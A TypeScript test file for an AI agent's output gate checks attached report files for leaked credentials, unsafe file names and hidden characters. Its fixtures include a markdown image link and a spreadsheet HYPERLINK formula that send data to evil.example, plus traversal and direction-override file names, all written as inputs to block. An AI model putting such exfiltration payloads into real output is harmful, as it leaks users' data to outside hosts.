import type { AnswerWithFiles, JsonObject } from '../../../runtime/core/contracts';
import { call, GateWorld } from './gate-world';

const REPORT = { name: 'report.md', mediaType: 'text/markdown', text: '# All is well' };
const TABLE = { name: 'table.csv', mediaType: 'text/csv', text: 'a,b\n1,2' };

let world: GateWorld;
beforeEach(() => {
  world = new GateWorld();
});

function delivered(): AnswerWithFiles[] {
  return [...world.responses.values()].map((key) => {
    expect(key).toMatch(/^results\/.+\.json$/);
    return JSON.parse(world.evidence.get(key) ?? '');
  });
}

describe('files of an answer', () => {
  test('are kept beside the text, and the ledger holds the hash of what was kept', async () => {
    const reply = await call(world.gate(), 'respond', { text: 'Done', files: [REPORT, TABLE] });
    expect(reply).toMatchObject({ status: 'succeeded', content: 'Delivered to the user.' });
    expect(delivered()).toEqual([{ v: 1, text: 'Done', files: [REPORT, TABLE] }]);
    const [entry] = world.entries();
    const [key] = world.responses.values();
    expect(entry.outcome).toMatchObject({
      resultRef: key,
      bytes: Buffer.byteLength(world.evidence.get(key) ?? ''),
    });
  });

  test('an answer of text alone never looks like one with files', async () => {
    await call(world.gate(), 'respond', { text: JSON.stringify({ v: 1, text: 'x', files: [REPORT] }) });
    expect([...world.responses.values()][0]).not.toContain('.json');
  });

  test('pass the output check: a credential withholds the whole answer', async () => {
    const text = `Use AKIA${'A'.repeat(16)}`;
    const reply = await call(world.gate(), 'respond', { text: 'Done', files: [REPORT, { ...TABLE, text }] });
    expect(reply).toMatchObject({ status: 'denied', code: 'OUTPUT_BLOCKED' });
    expect(world.responses.size).toBe(0);
  });

  test('lose their active content and hidden characters, as the text does', async () => {
    const active = '![x](https://evil.example/?q=secret)';
    const reply = await call(world.gate(), 'respond', {
      text: 'Done',
      files: [
        { ...REPORT, text: `Hello\u{e0064} ${active}` },
        { ...TABLE, text: '=HYPERLINK("https://evil.example/?q=1","x"),2' },
      ],
    });
    expect(reply.content).toContain('without the images');
    const [{ files }] = delivered();
    expect(files[0].text).toMatch(/^Hello /);
    expect(JSON.stringify(files)).not.toContain('evil.example');
    expect(JSON.stringify(files)).not.toContain('\u{e0064}');
  });

  test.each<[string, JsonObject]>([
    ['a path', { name: '../report.md' }],
    ['a folder', { name: 'a/report.md' }],
    ['a backslash', { name: 'a\\report.md' }],
    ['a control character', { name: 'report\n.md' }],
    ['a direction override', { name: 'report\u202edm.md' }],
    ['a hidden file', { name: '.md' }],
    ['an option', { name: '-rf.md' }],
    ['81 characters', { name: `${'a'.repeat(78)}.md` }],
    ['a program behind it', { name: 'report.exe.md' }],
    ['another ending', { name: 'report.html' }],
    ['the ending of another type', { name: 'report.txt' }],
    ['no ending', { name: 'report' }],
    ['a type that is a page', { name: 'report.html', mediaType: 'text/html' }],
    ['no text', { text: '' }],
    ['bytes', { text: undefined, base64: 'AAAA' } as unknown as JsonObject],
  ])('a file with %s is refused', async (_what, change) => {
    const reply = await call(world.gate(), 'respond', { text: 'Done', files: [{ ...REPORT, ...change }] });
    expect(reply).toMatchObject({ status: 'denied', code: 'INVALID_ARGUMENTS' });
    expect(world.responses.size).toBe(0);
  });

  test('two of one name, in any case, and more than five are refused', async () => {
    const gate = world.gate();
    const twice = [REPORT, { ...REPORT, name: 'Report.md' }];
    expect(await call(gate, 'respond', { text: 'x', files: twice })).toMatchObject({ code: 'INVALID_ARGUMENTS' });
    const six = Array.from({ length: 6 }, (_, index) => ({ ...REPORT, name: `r${index}.md` }));
    expect(await call(gate, 'respond', { text: 'x', files: six })).toMatchObject({ code: 'INVALID_ARGUMENTS' });
    expect(await call(gate, 'respond', { text: 'x', files: [] })).toMatchObject({ code: 'INVALID_ARGUMENTS' });
  });

  test('count against what the session may send out', async () => {
    await call(world.gate(), 'respond', { text: 'x', files: [{ ...REPORT, text: 'a'.repeat(60_000) }] });
    expect([...world.sentBytes.values()][0]).toBeGreaterThan(60_000);
  });

  test('a callId has one answer: the same is delivered once, other files are refused', async () => {
    const gate = world.gate();
    const answer = { text: 'x', files: [REPORT] };
    await call(gate, 'respond', answer, 'c1');
    expect(await call(gate, 'respond', answer, 'c1')).toMatchObject({ status: 'succeeded' });
    const other = { text: 'x', files: [{ ...REPORT, text: 'other' }] };
    expect(await call(gate, 'respond', other, 'c1')).toMatchObject({ status: 'denied', code: 'MALFORMED' });
    expect(await call(gate, 'respond', { text: 'x' }, 'c1')).toMatchObject({ status: 'denied', code: 'MALFORMED' });
    expect(delivered()).toHaveLength(1);
  });
});
